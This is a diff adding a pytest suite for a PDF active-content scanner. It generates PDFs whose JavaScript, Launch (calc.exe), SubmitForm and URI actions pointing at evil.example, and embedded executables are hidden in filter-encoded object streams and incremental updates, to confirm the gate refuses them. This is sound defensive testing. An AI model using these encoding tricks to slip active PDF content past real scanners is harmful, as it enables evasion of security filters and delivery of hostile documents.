@@ -1,0 +1,232 @@
+"""PDF actions a regex over raw and Flate bytes does not see (issue 15, item 4): inside
+object streams encoded with ASCIIHex, ASCII85, LZW, RunLength or a chain of filters, and in
+incremental updates. Each file is first read by poppler (`pdfinfo`, and `pdfinfo -js` where
+the action is a script): a real reader finds what the gate must refuse."""
+
+from __future__ import annotations
+
+import base64
+import shutil
+import subprocess
+import zlib
+from pathlib import Path
+
+import pytest
+
+from temoin import gates
+from temoin.gates import markup
+from temoin.gates import pdf as pdf_gate
+
+SITE = "https://temoin.example.org/"
+
+
+# -- encoders for the filters a reader decodes ---------------------------------------------
+def _hex(data: bytes) -> bytes:
+    return data.hex().encode() + b">"
+
+
+def _a85(data: bytes) -> bytes:
+    return base64.a85encode(data) + b"~>"
+
+
+def _runlength(data: bytes) -> bytes:
+    """Every byte its own literal run: no two bytes of the text stand side by side."""
+    return b"".join(b"\x00" + bytes([b]) for b in data) + b"\x80"
+
+
+def _lzw(data: bytes) -> bytes:
+    """LZW as PDF's LZWDecode reads it (EarlyChange 1, clear code first, MSB first)."""
+    table = {bytes([i]): i for i in range(256)}
+    codes, width, nxt, word = [256], 9, 258, b""
+    out_codes: list[tuple[int, int]] = [(256, 9)]
+    for byte in data:
+        cand = word + bytes([byte])
+        if cand in table:
+            word = cand
+            continue
+        out_codes.append((table[word], width))
+        table[cand] = nxt
+        nxt += 1
+        if nxt + 1 > (1 << width) and width < 12:  # early change
+            width += 1
+        word = bytes([byte])
+    if word:
+        out_codes.append((table[word], width))
+    out_codes.append((257, width))
+    del codes
+    bits, n, out = 0, 0, bytearray()
+    for code, w in out_codes:
+        bits = (bits << w) | code
+        n += w
+        while n >= 8:
+            n -= 8
+            out.append((bits >> n) & 0xFF)
+    if n:
+        out.append((bits << (8 - n)) & 0xFF)
+    return bytes(out)
+
+
+ENCODE = {"/ASCIIHexDecode": _hex, "/ASCII85Decode": _a85, "/RunLengthDecode": _runlength,
+          "/LZWDecode": _lzw, "/FlateDecode": zlib.compress}
+
+
+def _encode(data: bytes, filters: list[str]) -> bytes:
+    for f in reversed(filters):  # /Filter [/A /B]: a reader decodes A, then B
+        data = ENCODE[f](data)
+    return data
+
+
+# -- a PDF whose objects sit in an object stream (cross-reference stream) -------------------
+def objstm_pdf(objects: dict[int, bytes], filters: list[str], prefix: bytes = b"%PDF-1.7\n",
+               prev: int | None = None, size: int | None = None) -> bytes:
+    """`objects` (number -> dictionary) compressed into one /ObjStm encoded with `filters`,
+    a cross-reference stream pointing at them; appended to `prefix` (an incremental update
+    when `prev`, the previous cross-reference's offset, is given)."""
+    nums = sorted(objects)
+    stm_num = max(nums) + 1 if size is None else size
+    xref_num = stm_num + 1
+    body, header = b"", b""
+    for n in nums:
+        header += b"%d %d " % (n, len(body))
+        body += objects[n] + b"\n"
+    raw = header + body
+    data = _encode(raw, filters)
+    filt = b"[" + b" ".join(f.encode() for f in filters) + b"]"
+    out = bytearray(prefix)
+    stm_at = len(out)
+    out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter %s /Length %d >>\nstream\n"
+            % (stm_num, len(nums), len(header), filt, len(data)) + data + b"\nendstream\nendobj\n")
+    xref_at = len(out)
+    rows = {n: b"\x02" + stm_num.to_bytes(4, "big") + i.to_bytes(2, "big")
+            for i, n in enumerate(nums)}
+    rows[stm_num] = b"\x01" + stm_at.to_bytes(4, "big") + b"\0\0"
+    rows[xref_num] = b"\x01" + xref_at.to_bytes(4, "big") + b"\0\0"
+    index = b" ".join(b"%d 1" % n for n in sorted(rows))
+    if prev is None:
+        rows[0] = b"\x00" + b"\0\0\0\0" + b"\xff\xff"
+        index = b"0 1 " + index
+    table = b"".join(rows[n] for n in sorted(rows))
+    extra = b" /Prev %d" % prev if prev is not None else b""
+    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%s] /Root 1 0 R%s "
+            b"/Length %d >>\nstream\n" % (xref_num, xref_num + 1, index, extra, len(table))
+            + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at)
+    return bytes(out)
+
+
+CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
+PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
+PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s >>"
+
+
+def _doc(catalog: bytes = b"", page: bytes = b"", **more: bytes) -> dict[int, bytes]:
+    objs = {1: CATALOG % catalog, 2: PAGES, 3: PAGE % page}
+    objs.update({int(k[1:]): v for k, v in more.items()})
+    return objs
+
+
+LINK = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A %s >>]"
+CASES = [
+    # (id, objects, filters, what the gate names, poppler -js shows a script)
+    ("openaction-js-asciihex", _doc(b"/OpenAction 4 0 R",
+                                    o4=b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
+     ["/ASCIIHexDecode"], {"/JavaScript", "/JS", "/OpenAction"}, False),
+    ("launch-link-a85-lzw", _doc(page=LINK % b"<< /S /Launch /F (calc.exe) >>"),
+     ["/ASCII85Decode", "/LZWDecode"], {"/Launch"}, False),
+    ("uri-elsewhere-runlength", _doc(page=LINK % b"<< /S /URI /URI (https://evil.example/t) >>"),
+     ["/RunLengthDecode"], {"/URI https://evil.example/t"}, False),
+    ("submitform-aa-lzw",
+     _doc(page=b"/AA << /O << /S /SubmitForm /F (https://evil.example/) >> >>"),
+     ["/LZWDecode"], {"/AA", "/SubmitForm"}, False),
+    ("embedded-file-hex-flate",
+     _doc(b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
+          o4=b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"),
+     ["/ASCIIHexDecode", "/FlateDecode"], {"/EF", "/EmbeddedFiles"}, False),
+    ("openaction-uri-to-the-site-a85", _doc(b"/OpenAction << /S /URI /URI (" + SITE.encode()
+                                            + b") >>"),
+     ["/ASCII85Decode"], {"/OpenAction", "/URI run by itself"}, False),
+    ("names-javascript-runlength",
+     _doc(b"/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(2\\)) >>]"
+          b" >> >>"), ["/RunLengthDecode"], {"/JavaScript", "/JS"}, True),
+]
+
+
+def _poppler(path: Path, *args: str) -> str:
+    if not shutil.which("pdfinfo"):
+        pytest.skip("pdfinfo (poppler-utils) missing")
+    out = subprocess.run(["pdfinfo", *args, str(path)], capture_output=True, check=False)
+    assert out.returncode == 0, out.stderr
+    return out.stdout.decode("utf-8", "replace")
+
+
+def _found(tmp_path: Path, name: str, data: bytes) -> list[gates.Finding]:
+    site = tmp_path / "site"
+    site.mkdir(exist_ok=True)
+    (site / name).write_bytes(data)
+    return gates.scan(site, site_url=SITE, gates=["active-content"])
+
+
+@pytest.mark.parametrize("objects,filters,names,script", [c[1:] for c in CASES],
+                         ids=[c[0] for c in CASES])
+def test_an_action_in_an_object_stream_of_any_filter_is_refused(
+        tmp_path: Path, objects: dict[int, bytes], filters: list[str], names: set[str],
+        script: bool) -> None:
+    data = objstm_pdf(objects, filters)
+    path = tmp_path / "x.pdf"
+    path.write_bytes(data)
+    _poppler(path)  # a reader opens it
+    if script:
+        assert "app.alert" in _poppler(path, "-js")  # and finds the script
+    # The raw bytes and Flate streams show none of it: the old reading passed such a file.
+    from temoin.gates.extract import _pdf_actions, _pdf_blob
+
+    assert _pdf_actions(_pdf_blob(data)) == []
+    assert set(pdf_gate.actions(data, markup.Origin(SITE))) == names
+    found = _found(tmp_path, "x.pdf", data)
+    assert [(f.gate, f.path) for f in found] == [("active-content", "x.pdf")]
+    assert found[0].detail == "PDF declares " + ", ".join(sorted(names))
+
+
+def test_a_link_to_the_site_itself_and_a_destination_pass(tmp_path: Path) -> None:
+    data = objstm_pdf(_doc(b"/OpenAction [3 0 R /FitH null]",
+                           LINK % b"<< /S /URI /URI (" + SITE.encode() + b"cases/x/) >>"),
+                      ["/ASCII85Decode", "/FlateDecode"])
+    _poppler(tmp_path.joinpath("ok.pdf").write_bytes(data) and tmp_path / "ok.pdf")
+    assert pdf_gate.actions(data, markup.Origin(SITE)) == []
+    assert _found(tmp_path, "ok.pdf", data) == []
+
+
+def test_an_action_added_or_removed_by_an_incremental_update_is_refused(tmp_path: Path) -> None:
+    clean = objstm_pdf(_doc(), ["/FlateDecode"])
+    assert pdf_gate.actions(clean, markup.Origin(SITE)) == []
+    prev = int(clean.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
+    # The update replaces the catalog (object 1) with one that runs a script on opening,
+    # inside an ASCII85 object stream.
+    update = objstm_pdf({1: CATALOG % b"/Names << /JavaScript << /Names [(x) << /S /JavaScript "
+                                      b"/JS (app.alert\\(3\\)) >>] >> >>"},
+                        ["/ASCII85Decode"], prefix=clean, prev=prev, size=6)
+    path = tmp_path / "u.pdf"
+    path.write_bytes(update)
+    assert "app.alert(3)" in _poppler(path, "-js")
+    assert {"/JavaScript", "/JS"} <= set(pdf_gate.actions(update, markup.Origin(SITE)))
+    # A script in the first revision, removed by an update: still in the file, refused.
+    hidden = objstm_pdf(_doc(b"/OpenAction << /S /Launch /F (calc.exe) >>"), ["/LZWDecode"])
+    prev = int(hidden.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
+    fixed = objstm_pdf({1: CATALOG % b""}, ["/FlateDecode"], prefix=hidden, prev=prev, size=6)
+    assert "/Launch" in pdf_gate.actions(fixed, markup.Origin(SITE))
+
+
+def test_a_pdf_no_parser_reads_is_refused(tmp_path: Path) -> None:
+    found = _found(tmp_path, "junk.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 10)
+    assert any("unreadable by qpdf" in f.detail for f in found), found
+
+
+def test_a_generated_bulletin_passes(tmp_path: Path) -> None:
+    from fpdf import FPDF
+
+    doc = FPDF()
+    doc.add_page()
+    doc.set_font("helvetica", size=12)
+    doc.cell(text="Bulletin", link=SITE + "cases/")
+    doc.set_display_mode("fullwidth")
+    data = bytes(doc.output())
+    assert pdf_gate.actions(data, markup.Origin(SITE)) == []
